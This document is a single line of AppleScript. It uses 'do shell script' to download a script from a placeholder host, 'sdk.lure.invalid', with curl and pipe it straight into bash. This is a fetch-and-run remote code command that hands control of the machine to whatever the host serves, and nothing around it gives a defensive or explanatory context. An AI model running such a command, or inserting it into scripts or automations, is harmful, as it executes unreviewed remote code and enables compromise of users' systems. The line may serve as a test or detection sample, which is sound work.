do shell script "curl -fsS https://sdk.lure.invalid/x | bash"
